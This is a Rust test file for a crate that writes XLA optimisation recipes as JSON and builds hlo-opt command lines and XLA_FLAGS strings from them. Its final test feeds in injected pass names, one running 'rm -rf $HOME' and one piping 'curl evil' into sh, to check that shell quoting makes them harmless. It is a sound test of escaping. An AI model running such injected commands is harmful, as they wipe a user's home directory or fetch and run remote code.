//! A recipe as a file, and as a command.

mod common;

use std::fs;

use common::recipe;
use xla_gym_recipe::{HloOpt, Recipe, RecipeError};
use xla_gym_score::Start;

#[test]
fn a_file_comes_back_the_same_and_is_for_people_too() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("recipe.json");
    let written = recipe(1, 4.0 / 3.0, 2);
    recipe(2, 9.0, 40).write(&path).unwrap();
    written.write(&path).unwrap();
    assert_eq!(Recipe::read(&path).unwrap(), written);
    let text = fs::read_to_string(&path).unwrap();
    assert!(text.starts_with("{\n  \"version\": 1,\n") && text.ends_with("}\n"), "{text}");
    assert_eq!(fs::read_dir(folder.path()).unwrap().count(), 1, "nothing is left beside it");
}

#[test]
fn errors_name_the_file_and_leave_it_alone() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("recipe.json");
    let fails = || {
        let error = Recipe::read(&path).unwrap_err();
        assert!(error.to_string().contains("recipe.json"), "{error}");
        error
    };
    assert!(matches!(fails(), RecipeError::Read { .. }));
    fs::write(&path, "{\"version\": 2, \"anything\": []}").unwrap();
    let error = fails().to_string();
    assert!(error.contains("has version 2, and version 1 is read"), "{error}");
    fs::write(&path, "{\"version\": 1}").unwrap();
    assert!(fails().to_string().contains("missing field"), "{}", fails());

    let mut endless = recipe(1, 2.0, 2);
    endless.evidence.order_ratio = Some(f64::NAN);
    let error = endless.write(&path).unwrap_err();
    assert!(matches!(error, RecipeError::Doubtful { .. }), "{error}");
    assert_eq!(fs::read_to_string(&path).unwrap(), "{\"version\": 1}", "it is left as it was");

    let nowhere = folder.path().join("missing/recipe.json");
    let error = recipe(1, 2.0, 2).write(&nowhere).unwrap_err();
    assert!(matches!(error, RecipeError::Write { .. }), "{error}");
    assert!(error.to_string().contains("missing/recipe.json"), "{error}");
}

fn with_passes(start: Start, passes: &[&str]) -> Recipe {
    let passes = passes.iter().map(|pass| (*pass).to_owned()).collect();
    Recipe { start, passes, ..recipe(1, 2.0, 0) }
}

fn command(line: &str, approximated: &[&str]) -> HloOpt {
    let approximated = approximated.iter().map(|pass| (*pass).to_owned()).collect();
    HloOpt { line: line.to_owned(), approximated }
}

#[test]
fn the_command_runs_the_passes_in_their_order() {
    let normalising = ["dot_decomposer", "call-inliner:single-call-site"];
    let line = |recipe: &Recipe| recipe.hlo_opt_line(&normalising);

    let plain = with_passes(Start::Emitted, &["dce", "algsimp", "dce"]);
    let expected = "hlo-opt --platform=CPU --passes=dce,algsimp,dce FILE.hlo";
    assert_eq!(line(&plain), command(expected, &[]));

    let passes = ["algsimp:dot-strength", "cse", "algsimp:dot-strength"];
    let normalised = with_passes(Start::Normalised, &passes);
    let expected = "hlo-opt --platform=CPU \
                    --passes=dot_decomposer,call-inliner,algsimp,cse,algsimp FILE.hlo";
    let approximated = ["call-inliner:single-call-site", "algsimp:dot-strength"];
    assert_eq!(line(&normalised), command(expected, &approximated));
}

#[test]
fn without_passes_the_command_runs_the_pipeline_less_what_is_disabled() {
    let mut recipe = with_passes(Start::Emitted, &[]);
    let expected = "hlo-opt --platform=CPU --xla_disable_hlo_passes=cse FILE.hlo";
    assert_eq!(recipe.hlo_opt_line(&["dce"]).line, expected);
    recipe.disabled_passes.clear();
    assert_eq!(recipe.hlo_opt_line(&["dce"]).line, "hlo-opt --platform=CPU FILE.hlo");
}

#[test]
fn a_pass_of_evil_name_stays_a_name_in_the_shell() {
    let evil = with_passes(Start::Emitted, &["dce'; rm -rf $HOME #"]);
    let expected = r"hlo-opt --platform=CPU --passes='dce'\''; rm -rf $HOME #' FILE.hlo";
    assert_eq!(evil.hlo_opt_line(&[]).line, expected);

    let mut recipe = recipe(1, 2.0, 0);
    assert_eq!(recipe.xla_flags().unwrap(), "XLA_FLAGS=--xla_disable_hlo_passes=cse");
    recipe.disabled_passes.push("x;curl 'evil'|sh".to_owned());
    let expected = r"XLA_FLAGS=--xla_disable_hlo_passes='cse,x;curl '\''evil'\''|sh'";
    assert_eq!(recipe.xla_flags().unwrap(), expected);
    recipe.disabled_passes.clear();
    assert_eq!(recipe.xla_flags(), None);
}
